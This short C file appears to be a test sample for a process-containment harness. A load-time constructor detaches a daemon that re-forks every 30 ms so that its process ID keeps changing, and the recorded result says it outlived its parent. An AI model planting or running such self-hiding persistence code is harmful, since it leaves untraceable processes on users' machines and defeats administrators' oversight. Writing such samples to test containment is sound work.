/*
 * refork.c - leaves a daemon running that starts itself again every 30 ms, so
 * that nobody finds it twice; then it serves.
 * expects: any
 * reported: outlived the program that started them, and started others
 */
#include <unistd.h>

__attribute__((constructor)) static void leave_daemon(void)
{
    if (fork() != 0) {
        return;
    }
    setsid();
    for (int fd = 0; fd < 3; fd++) {
        close(fd);
    }
    for (;;) {
        if (fork() != 0) {
            _exit(0);
        }
        usleep(30000);
    }
}
